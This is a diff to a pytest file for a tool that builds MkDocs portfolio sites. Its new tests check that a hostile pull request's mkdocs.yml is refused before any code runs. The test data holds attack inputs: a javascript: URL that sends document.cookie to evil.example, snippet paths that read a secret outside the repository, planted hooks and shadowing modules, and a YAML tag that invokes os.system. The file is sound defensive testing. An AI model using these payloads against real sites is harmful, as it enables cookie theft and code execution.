@@ -109,6 +109,9 @@ def test_plugin_generates_under_a_prefix_with_chosen_sections(tmp_path: Path) ->
     assert (root / "site" / "portfolio" / "risks" / "index.html").is_file()
     assert not (root / "site" / "portfolio" / "roadmap").exists()
     assert "generated 7 file(s)" in proc.stderr  # 6 pages and data.json
+    # the sections are in the navigation, the projects are not (no `nav:` here: MkDocs builds it from the files)
+    home = (root / "site" / "index.html").read_text(encoding="utf-8")
+    assert 'href="portfolio/risks/"' in home and "crm-migration" not in home
 
 
 def test_plugin_errors_name_the_file(tmp_path: Path) -> None:
@@ -149,3 +152,137 @@ def test_privacy_plugin_in_report_mode_finds_only_materials_dormant_mermaid(tmp_
     assert external, "the privacy plugin reported nothing: is it still running?"
     for line in external:
         assert "unpkg.com/mermaid" in line and "assets/javascripts/bundle" in line, line
+
+
+# -- the trust boundary (issue: a pull request's mkdocs.yml must not run code or publish outside files) --
+
+
+def _all_bytes(folder: Path) -> bytes:
+    return b"".join(p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file())
+
+
+def _hostile_repository(tmp_path: Path, config: str) -> tuple[Path, Path, Path]:
+    """A portfolio with a mkdocs.yml, code a build must never run and a secret outside the repository."""
+    canary = tmp_path / "CANARY"
+    secret = tmp_path / "secret.txt"
+    secret.write_text("TOPSECRET-7f3a9c\n", encoding="utf-8")
+    root = tmp_path / "repo"
+    shutil.copytree(PORTFOLIO, root)
+    (root / "site-docs").mkdir()
+    (root / "site-docs" / "index.md").write_text(
+        f'# Home\n\n--8<-- "../secret.txt"\n\n--8<-- "{secret}"\n\n--8<-- "../../secret.txt"\n', encoding="utf-8"
+    )
+    write_canary = f"open({str(canary)!r}, 'w').write('ran')\n"
+    (root / "hooks").mkdir()
+    (root / "hooks" / "publish.py").write_text(write_canary, encoding="utf-8")
+    # modules that would shadow MkDocs or an extension if the repository were on the import path
+    for package in ("mkdocs", "pymdownx", "material"):
+        (root / package).mkdir()
+        (root / package / "__init__.py").write_text(write_canary, encoding="utf-8")
+        (root / package / "__main__.py").write_text(write_canary, encoding="utf-8")
+    (root / "evil_ext.py").write_text(write_canary, encoding="utf-8")
+    (root / "mkdocs.yml").write_text(config, encoding="utf-8")
+    return root, canary, secret
+
+
+_BASE_CONFIG = (
+    "site_name: t\ndocs_dir: site-docs\ntheme: {name: material, font: false}\nextra: {generator: false}\n"
+    "plugins:\n  - search\n  - pmo-lint: {prefix: portfolio}\n"
+)
+
+
+@pytest.mark.parametrize(
+    "extra",
+    [
+        "hooks:\n  - hooks/publish.py\n",
+        "markdown_extensions:\n  - evil_ext\n",
+        "markdown_extensions:\n  - pymdownx.snippets:\n      restrict_base_path: false\n      base_path: [/, ..]\n",
+        "extra_javascript:\n  - \"javascript:fetch('https://evil.example/'+document.cookie)\"\n",
+        "extra:\n  social:\n    - {icon: fontawesome/brands/github, link: 'javascript:alert(1)'}\n",
+        "copyright: !ENV [HOME, x]\n",
+        "markdown_extensions:\n  - pymdownx.superfences:\n      custom_fences:\n        - name: x\n"
+        "          class: x\n          format: !!python/name:os.system\n",
+    ],
+)
+def test_hostile_mkdocs_yml_is_refused_before_anything_runs(tmp_path: Path, extra: str) -> None:
+    root, canary, _ = _hostile_repository(tmp_path, _BASE_CONFIG + extra)
+    out = tmp_path / "out"
+    res = run_cli("site", "build", str(root), "--out", str(out), "--as-of", AS_OF, cwd=root, env=QUIET, timeout=600)
+    assert res.code == 2, res.err
+    assert f"{root / 'mkdocs.yml'}:" in res.err and "--trust-config" in res.err
+    assert "Traceback" not in res.err and "internal error" not in res.err
+    assert not canary.exists() and not out.exists()
+
+
+def test_allowed_mkdocs_yml_builds_without_running_or_publishing_anything_else(tmp_path: Path) -> None:
+    """What passes the check builds, started from inside the repository (where its modules would shadow
+    MkDocs' if the repository were on the import path), and restricted snippets stay inside it."""
+    config = _BASE_CONFIG + "markdown_extensions:\n  - pymdownx.snippets:\n      base_path: [site-docs]\n"
+    root, canary, secret = _hostile_repository(tmp_path, config)
+    out = tmp_path / "out"
+    res = run_cli("site", "build", str(root), "--out", str(out), "--as-of", AS_OF, cwd=root, env=QUIET, timeout=600)
+    assert res.code == 0, res.err
+    assert (out / "portfolio" / "index.html").is_file()
+    assert not canary.exists()
+    built = _all_bytes(out)
+    assert b"TOPSECRET-7f3a9c" not in built and secret.read_bytes().strip() not in built
+    # no element of any page carries a script address (the hostile portfolio's text shows escaped, as text)
+    pages = b"".join(p.read_bytes() for p in out.rglob("*.html"))
+    assert not re.search(rb"""<[a-zA-Z][^<>]*\s(?:href|src)\s*=\s*["']?\s*javascript:""", pages, re.IGNORECASE)
+
+
+def test_trust_config_runs_the_repositorys_hooks(tmp_path: Path) -> None:
+    """--trust-config is the explicit way back to MkDocs' own behaviour (for a trusted main branch)."""
+    root, canary, _ = _hostile_repository(tmp_path, _BASE_CONFIG + "hooks:\n  - hooks/publish.py\n")
+    (root / "site-docs" / "index.md").write_text("# Home\n", encoding="utf-8")
+    res = run_cli(
+        "site",
+        "build",
+        str(root),
+        "--out",
+        str(tmp_path / "out"),
+        "--as-of",
+        AS_OF,
+        "--trust-config",
+        env=QUIET,
+        timeout=600,
+    )
+    assert res.code == 0, res.err
+    assert canary.read_text(encoding="utf-8") == "ran"
+
+
+# -- scale: a page's size does not grow with the portfolio --
+
+
+def _project_pages(site: Path) -> dict[str, int]:
+    return {
+        p.parent.name: p.stat().st_size
+        for p in (site / "projects").glob("*/index.html")
+        if "_" not in p.parent.name  # continuation pages of the project list
+    }
+
+
+def test_project_page_size_does_not_grow_with_the_portfolio(tmp_path: Path) -> None:
+    from bench.generate import write
+
+    sizes: dict[int, dict[str, int]] = {}
+    for count in (100, 800):
+        root = tmp_path / f"p{count}"
+        write(root, count, 7)
+        out = tmp_path / f"site{count}"
+        res = run_cli("site", "build", str(root), "--out", str(out), "--as-of", AS_OF, env=QUIET, timeout=900)
+        assert res.code == 0, res.err
+        sizes[count] = _project_pages(out)
+        assert len(sizes[count]) == count
+        page = next(iter(sorted((out / "projects").glob("*/index.html")))).read_text(encoding="utf-8")
+        # the navigation holds the sections, not the projects
+        assert len(re.findall(r'href="\.\./[a-z0-9-]+/"', page)) < 20
+    small = sum(sizes[100].values()) / len(sizes[100])
+    large = sum(sizes[800].values()) / len(sizes[800])
+    assert large < small * 1.15, (small, large)  # before: 49 KB against 234 KB
+    common = sorted(set(sizes[100]) & set(sizes[800]))[:20]
+    assert common
+    for name in common:  # the same project's page, within the noise of its own data
+        assert sizes[800][name] < sizes[100][name] * 1.3 + 4000, name
+    for page in (tmp_path / "site800").rglob("*.html"):
+        assert page.stat().st_size < 400_000, page  # every page, the dashboard and registers too
